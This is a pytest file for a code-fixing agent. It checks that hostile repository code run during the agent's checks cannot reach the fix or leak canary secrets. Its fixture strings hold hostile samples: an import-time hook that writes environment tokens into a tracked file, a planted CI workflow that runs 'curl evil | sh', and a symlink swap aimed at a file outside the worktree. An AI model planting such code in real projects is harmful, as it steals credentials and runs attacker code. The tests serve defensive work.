"""What the code an agent's ``run_checks`` runs does to its worktree never reaches the fix.

``run_checks`` runs the repository's code (its tests, and so its ``pkg/__init__.py``) with
the agent's edits. That code is the attacker's: it may write files at import, change
tracked files the agent never touched, or swap the file the agent edited for a symlink
to a file outside the worktree, so that undoing the agent's edit writes there. Each case
is a real night (``nightcrew run`` in its own process, real git, real bubblewrap) with
canary secrets in its environment and a scripted model behind the fake Messages API.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import git, init_repo, needs_bwrap
from tests.fakes.messages_api import FakeMessagesAPI, Request, reply, tool_use

CANARIES = {
    "GITHUB_TOKEN": "ghs_canaryHostileChecks0001",
    "ANTHROPIC_API_KEY": "sk-ant-canaryHostileChecks0002",
    "AWS_SECRET_ACCESS_KEY": "canaryHostileChecksAws0003",
}
CALC = """\
def total(items):
    snapshot = list(items)
    return sum(snapshot)
"""
OTHER = """\
def helper():
    return 1
"""
TESTS = """\
from pkg.calc import total
from pkg.other import helper


def test_total():
    assert total([1, 2, 3]) == 6
    assert helper() == 1
"""
EDIT = {
    "path": "pkg/calc.py",
    "old_text": "    snapshot = list(items)\n    return sum(snapshot)\n",
    "new_text": "    return sum(items)\n",
}
# pkg/__init__.py, run at every import: plants files and changes a tracked file it was not
# asked to change (a backdoor the agent never wrote), with whatever secrets it can see.
DUMP = "' '.join(os.environ.get(k, '') for k in ('GITHUB_TOKEN', 'ANTHROPIC_API_KEY'))"
BACKDOOR = f"""\
import os
from pathlib import Path

_pkg = Path(__file__).parent
_other = _pkg / "other.py"
if "BACKDOOR" not in _other.read_text():
    with open(_other, "a") as _file:
        _file.write("\\nBACKDOOR = " + repr({DUMP}) + "\\n")
"""
PLANTS = f"""\
import os
from pathlib import Path

_pkg = Path(__file__).parent
_workflow = _pkg.parent / ".github" / "workflows" / "planted.yml"
_workflow.parent.mkdir(parents=True, exist_ok=True)
_workflow.write_text("on: push\\njobs: {{x: {{steps: [{{run: 'curl evil | sh'}}]}}}}\\n")
(_pkg / "_cache.bin").write_bytes(b"cache " + {DUMP}.encode())
_other = _pkg / "other.py"
if "BACKDOOR" not in _other.read_text():
    with open(_other, "a") as _file:
        _file.write("\\nBACKDOOR = " + repr({DUMP}) + "\\n")
"""


def night(tmp_path: Path, init: str, script) -> tuple[Path, FakeMessagesAPI, dict]:
    config = "version: 1\ntest_command: python -m pytest -q -p no:cacheprovider\n"
    repo = init_repo(
        tmp_path / "repo",
        {
            "pkg/__init__.py": init,
            "pkg/calc.py": CALC,
            "pkg/other.py": OTHER,
            "tests/test_calc.py": TESTS,
            ".github/nightcrew.yml": config,
        },
    )
    with FakeMessagesAPI(script) as fake:
        env = {**os.environ, **CANARIES, "ANTHROPIC_BASE_URL": fake.url}
        done = subprocess.run(
            [
                *(sys.executable, "-m", "bot.cli", "run", "--repo", str(repo), "--json"),
                *("--quiet", "--recipe", "unnecessary-copies-deep", "--out", str(tmp_path / "out")),
            ],
            env=env,
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )
    assert done.returncode in (0, 1), done.stderr
    return repo, fake, json.loads(done.stdout)


def assert_no_canary(*roots: Path) -> None:
    for root in roots:
        for path in [root, *root.rglob("*")] if root.is_dir() else [root]:
            if path.is_file() and not path.is_symlink():
                data = path.read_bytes()
                for value in CANARIES.values():
                    assert value.encode() not in data, f"{value} reached {path}"


def edit_then_check_then_finish(request: Request) -> dict:
    if request.turn == 0:
        return reply(tool_use("edit_file", **EDIT))
    if request.turn == 1:
        return reply(tool_use("run_checks"))
    return reply(tool_use("finish", summary="Sum the items directly."))


@needs_bwrap
@pytest.mark.parametrize("init", [BACKDOOR, PLANTS], ids=["changes-a-tracked-file", "plants"])
def test_files_written_by_checked_code_never_reach_the_fix(tmp_path: Path, init: str) -> None:
    repo, fake, report = night(tmp_path, init, edit_then_check_then_finish)
    fixer = [r for r in fake.requests if "write_test" not in r.tool_names]  # not the refuter's
    assert len(fixer) == 3  # edit, run_checks, finish: the checks really ran
    assert "passed" in fake.requests[2].tool_results[0]["content"]
    (fix,) = report["fixes"]
    assert fix["status"] == "verified", fix
    branch = fix["branch"]
    assert git(repo, "diff", "--name-only", f"main...{branch}").split() == ["pkg/calc.py"]
    assert git(repo, "show", f"{branch}:pkg/other.py") == OTHER
    patch = Path(fix["patch"]).read_text()
    assert "BACKDOOR" not in patch and "planted" not in patch and "_cache" not in patch
    assert "+    return sum(items)" in patch
    assert git(repo, "status", "--porcelain", "--untracked-files=all") == ""
    assert_no_canary(tmp_path / "out", tmp_path / "repo-origin.git")


# The agent's edit carries code that, when run_checks imports it, swaps the edited file for
# a link to a file outside the worktree; the agent then gives up, so its edit is undone.
VICTIM_TEXT = "# a file outside every worktree: nothing may write here\n"
SWAP = """\
import os as _os

if not _os.path.islink(__file__):
    _os.remove(__file__)
    _os.symlink({victim!r}, __file__)


"""


@needs_bwrap
def test_undoing_an_edit_never_writes_through_a_link_the_checks_planted(tmp_path: Path) -> None:
    victim = tmp_path / "outside" / "victim.py"
    victim.parent.mkdir()
    victim.write_text(VICTIM_TEXT)
    payload = SWAP.format(victim=str(victim))

    def swap_then_give_up(request: Request) -> dict:
        if request.turn == 0:
            edit = {"path": "pkg/calc.py", "old_text": "def total(items):\n"}
            return reply(tool_use("edit_file", **edit, new_text=payload + "def total(items):\n"))
        if request.turn == 1:
            return reply(tool_use("run_checks"))
        return reply(tool_use("give_up", reason="The copy is needed after all."))

    repo, fake, report = night(tmp_path, "", swap_then_give_up)
    assert len(fake.requests) == 3
    assert victim.read_text() == VICTIM_TEXT
    (fix,) = report["fixes"]
    assert fix["status"] == "skipped" and fix["branch"] is None, fix
    assert git(repo, "branch", "--list", "nightcrew/*") == ""
    assert git(repo, "status", "--porcelain", "--untracked-files=all") == ""
    assert_no_canary(tmp_path / "out", victim)
